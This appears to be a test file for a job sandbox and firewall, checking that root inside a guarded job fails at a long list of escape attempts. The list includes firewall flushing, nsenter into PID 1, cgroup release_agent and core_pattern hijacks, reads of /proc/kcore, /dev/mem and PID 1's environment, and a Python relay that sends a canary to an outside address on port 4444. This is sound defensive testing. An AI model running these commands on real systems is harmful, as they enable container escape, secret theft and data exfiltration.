/** Rows 83, 84, 91, 93 and 94: what the job, root included, can do from inside. */
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import t from "tap"
import { canary, guarded, labFor, threeTimes, whyNoLab } from "./harness.ts"
import { canaryLoop, loopPolicy } from "./loop.ts"
import {
  alive,
  commandLine,
  descendants,
  machineState,
  runDirectories,
  settled,
} from "./started.ts"
import { signal, startGuarded, until } from "./started.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

/** What root inside might try, one shell command a line; each must fail. */
const refused = `nft flush ruleset
nft delete table inet sluice
nft add rule inet sluice output accept
iptables -F
ip link del job0
ip link set job0 down
ip link set job0 netns 1
ip link add x0 type dummy
ip addr add 192.0.2.99/24 dev job0
ip rule add from all lookup 7
ip route del default
ip route add default dev lo
ip netns add mine
ip tuntap add tap0 mode tap
sysctl -w net.ipv4.ip_forward=1
sysctl -w kernel.core_pattern=/tmp/x
echo /tmp/x > /proc/sys/kernel/core_pattern
echo b > /proc/sysrq-trigger
echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter
echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6
mkdir /sys/fs/cgroup/mine
find /sys/fs/cgroup -name release_agent -exec sh -c 'echo /tmp/x > $1' - {} ';' -quit | grep .
mount -t proc proc /mnt
mount -t sysfs sysfs /mnt
mount -t tmpfs none /run
mount -o remount,rw /proc/sys
mount --bind /proc/sys /mnt
umount /run
umount /proc/sys
umount -l /proc
unshare -n true
unshare -m true
nsenter -t 1 -n true
nsenter --net=/proc/1/ns/net true
nsenter --net=/proc/1/task/1/ns/net true
ls /run/netns/*
ls /run/docker.sock
chroot /proc/1/root true
readlink /proc/1/fd/3
cat /proc/1/fd/3
ls /proc/1/root/
cat /proc/1/environ
head -c1 /proc/kcore
dd if=/dev/mem of=/dev/null count=1
mknod /tmp/sluice-test-disk b 254 0 && head -c1 /tmp/sluice-test-disk
mknod /tmp/sluice-test-mem c 1 1 && head -c1 /tmp/sluice-test-mem
unshare -Ur umount /run
unshare -Urm umount /run
unshare -Urm umount -l /proc/sys
unshare -Urm mount -t proc proc /proc
unshare -Urmpf mount -t proc proc /mnt
unshare -Ur nft flush ruleset
unshare -Ur ip link del job0
unshare -Ur ip route add default dev lo
unshare -Ur nsenter -t 1 -n true
modprobe dummy
bpftool prog list`

const results = `
while IFS= read -r line; do
  if (eval "$line") >/dev/null 2>&1 </dev/null; then echo "WORKED $line"; else echo "refused $line"; fi
done
kill -9 1; echo end
`

t.test("from inside", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t)
  await settled(lab)

  await t.test("row 84: root inside changes nothing that matters", async (t) => {
    const before = machineState(lab)
    const tries = join(lab.directory, "tries")
    writeFileSync(tries, `${refused}\n`)
    const { stdout, stderr } = await guarded(lab, { mode: "block" }, [
      "sh",
      "-c",
      `exec sh -c '${results.replaceAll("'", `'"'"'`)}' < ${tries}`,
    ])
    t.match(stdout, /refused nft flush ruleset/, stderr)
    t.strictSame(
      stdout.split("\n").filter((line) => line.startsWith("WORKED")),
      [],
    )
    t.equal(stdout.split("\n").length, refused.split("\n").length + 2, stdout)
    for (const name of ["disk", "mem"]) rmSync(`/tmp/sluice-test-${name}`, { force: true })
    t.equal(machineState(lab), before, "the machine is as it was")
  })

  await t.test("row 84: and then still nothing leaves", async (t) => {
    const word = canary()
    const free = canary()
    await lab.run(canaryLoop(free, 1), { timeoutMs: 3_000 })
    t.ok((await lab.seen(free)).length > 0, "arrives without a firewall")
    const loop = canaryLoop(word, 1.5).map((each) => `'${each}'`)
    const script = `${refused.split("\n").slice(0, 30).join(" 2>&1\n")}\n${loop.join(" ")}`
    const run = startGuarded(lab, { policy: loopPolicy }, ["sh", "-c", `(${script}) 2>/dev/null`])
    t.equal(await run.end, 0)
    t.match(run.stdout(), /ok\n/, "what is allowed works")
    t.strictSame(await lab.seen(word), [], "the canary never left")
  })

  const relay = (word: string): string[] => [
    "python3",
    "-c",
    `
import ctypes, os, socket, tempfile
path = tempfile.mktemp()
listener = socket.socket(socket.AF_UNIX); listener.bind(path); listener.listen()
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    assert libc.unshare(0x50000000) == 0, os.strerror(ctypes.get_errno())
    try: socket.create_connection(("198.51.100.66", 4444), 1)
    except OSError as error: print("bare:", error, flush=True)
    s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(b"${word}"); os._exit(0)
s, _ = listener.accept()
word = s.recv(99)
os.unlink(path)
try:
    far = socket.create_connection(("198.51.100.66", 4444), 2); far.sendall(word); far.recv(9)
except OSError as error: print("relay:", error)
os.wait()
`,
  ]
  await threeTimes(t, lab, {
    name: "row 83: a user namespace whose traffic another process carries (slirp, pasta)",
    command: relay,
    allow: ["allowed.test"],
    reasons: ["address-not-allowed"],
  })
  await t.test("row 83: a bare network namespace has no uplink", async (t) => {
    const { stdout } = await guarded(lab, { mode: "audit" }, relay(canary()))
    t.match(stdout, /bare: .*unreachable/)
    const wire =
      "ip link add a0 type veth peer name a1 && ip link set a1 netns $PPID && echo WORKED"
    const other = await guarded(lab, { mode: "block" }, ["unshare", "-Urn", "sh", "-c", wire])
    t.notMatch(other.stdout, /WORKED/, "no wire into the job's own namespace")
  })

  await t.test("row 91: nothing of ours to talk to", async (t) => {
    const run = startGuarded(lab, { policy: loopPolicy }, [
      "sh",
      "-c",
      `find /run/sluice -type f; echo --; find / -xdev -path /proc -prune -o -type s -print 2>/dev/null | grep -i sluice; find /run/sluice -type s -o -type p; echo --; cat /proc/net/unix; ss -ltnup 2>/dev/null; sleep 3`,
    ])
    await until("the job has looked", () => run.stdout().split("--\n").length > 2)
    const [id] = runDirectories(run.pid)
    t.ok(existsSync(`/run/sluice/${id}/resolver/socket`), "it is there outside")
    await run.end
    const [files = "", sockets = "", listed = ""] = run.stdout().split("--\n")
    const other = files
      .trim()
      .split("\n")
      .filter((path) => !/\.(pem|crt|jks)$/.test(path))
    t.strictSame(other, ["/run/sluice/resolv.conf"], "certificates, and where names are asked")
    t.equal(sockets, "", "no socket file")
    t.notMatch(listed, /sluice/, "no socket by name")
  })

  await t.test(
    "row 91: a log whose place the job takes is no evidence, and we say so",
    async (t) => {
      for (const harm of [
        "mv $(dirname $F) $(dirname $F).2",
        "mv $(dirname $F) $(dirname $F).2; mkdir $(dirname $F); ln -s /etc/passwd $F",
      ]) {
        const directory = join(lab.directory, `log-${canary()}`)
        const events = join(directory, "e.jsonl")
        const argv = lab.guarded(["--events", events], ["sh", "-c", `F=${events}; ${harm}; exit 0`])
        const { status, stderr } = await lab.run(argv)
        t.equal(status, 0, harm)
        t.match(stderr, /changed by somebody else/, harm)
      }
      t.notMatch(readFileSync("/etc/passwd", "utf8"), /run-ended/)
    },
  )

  await t.test("row 91: no descriptor of ours is handed on", async (t) => {
    const look = "import os; print(sorted(n for n in os.listdir('/proc/self/fd') if int(n) > 2))"
    const { stdout } = await guarded(lab, { mode: "block" }, ["/usr/bin/python3", "-c", look])
    t.equal(stdout, "['3']\n", "3 is the listing itself")
  })

  await t.test("row 91: the log itself the job can only read", async (t) => {
    for (const harm of [
      "true > $F",
      "head -1 $F >> $F",
      "printf x >> $F",
      "rm $F",
      "rm $F; ln -s /etc/passwd $F",
    ]) {
      const directory = join(lab.directory, `log-${canary()}`)
      const events = join(directory, "e.jsonl")
      const script = `curl -s -m 2 http://198.51.100.66:8080/; F=${events}; ${harm}; exit 0`
      const argv = lab.guarded(["--events", events], ["sh", "-c", script])
      const { status, stderr } = await lab.run(argv)
      t.equal(status, 0, harm)
      t.notMatch(stderr, /changed by somebody else/, harm)
      t.match(readFileSync(events, "utf8"), /run-ended/, harm)
    }
    t.notMatch(readFileSync("/etc/passwd", "utf8"), /run-ended/)
  })

  await t.test("row 93: our processes are not even visible", async (t) => {
    const run = startGuarded(lab, { policy: loopPolicy }, [
      "python3",
      "-c",
      `
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
for pid in sorted(int(n) for n in os.listdir("/proc") if n.isdigit()):
    print("process", pid, open(f"/proc/{pid}/cmdline").read().replace("\\0", " "))
for path in ("mem", "maps", "fd/3", "root/etc", "ns/net", "environ", "exe"):
    try: os.readlink(f"/proc/1/{path}") if path in ("ns/net", "exe") else open(f"/proc/1/{path}", "rb").read(1)
    except OSError as error: print("one", path, error.errno)
    else: print("WOR" + "KED", path)
for request in (16, 0x4206):
    print("ptrace", libc.ptrace(request, 1, 0, 0), ctypes.get_errno())
print("signal", libc.kill(1, 9))
fd = libc.syscall(434, 1, 0)
print("pidfd_getfd", libc.syscall(438, fd, 3, 0), ctypes.get_errno(), flush=True)
time.sleep(1)
`,
    ])
    await until("the job has looked", () => run.stdout().includes("pidfd_getfd"))
    const ours = descendants(run.pid).filter((pid) => /gate\.js/.test(commandLine(pid).join(" ")))
    t.ok(ours.length >= 2)
    t.equal(await run.end, 0, run.stderr())
    const seen = run.stdout()
    t.notMatch(seen, /gate\.js|main\.js|^WORKED/m)
    t.match(seen, /ptrace -1 1\nptrace -1 1\n/)
    t.match(seen, /pidfd_getfd -1 1/)
    // The first process, what keeps it waiting for the guard, and this program.
    t.equal(seen.match(/^process /gm)?.length, 3, seen)
  })

  await t.test("row 94: abstract sockets of the machine's daemons are out of reach", async (t) => {
    const out = join(lab.directory, "heard")
    writeFileSync(out, "")
    const name = `sluice-test-${canary()}`
    const daemon = lab.start([
      "python3",
      "-c",
      `
import socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0${name}"); s.listen()
while True:
    c, _ = s.accept(); open("${out}", "ab").write(c.recv(99))
`,
    ])
    const speak = (word: string): string[] => [
      "python3",
      "-c",
      `import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0${name}"); s.sendall(b"${word}")`,
    ]
    const [free, caught] = [canary(), canary()]
    for (let turn = 0; turn < 20 && !readFileSync(out, "utf8").includes(free); turn++) {
      await lab.run(speak(free))
    }
    t.match(readFileSync(out, "utf8"), free, "arrives without a firewall")
    const { status, stderr } = await guarded(lab, { mode: "audit" }, speak(caught))
    t.not(status, 0)
    t.match(stderr, /ConnectionRefused/)
    t.notMatch(readFileSync(out, "utf8"), caught)
    signal(daemon.pid ?? 0, "SIGKILL")
    await until("it has ended", () => alive([daemon.pid ?? 0]).length === 0).catch(() => {})
  })
})
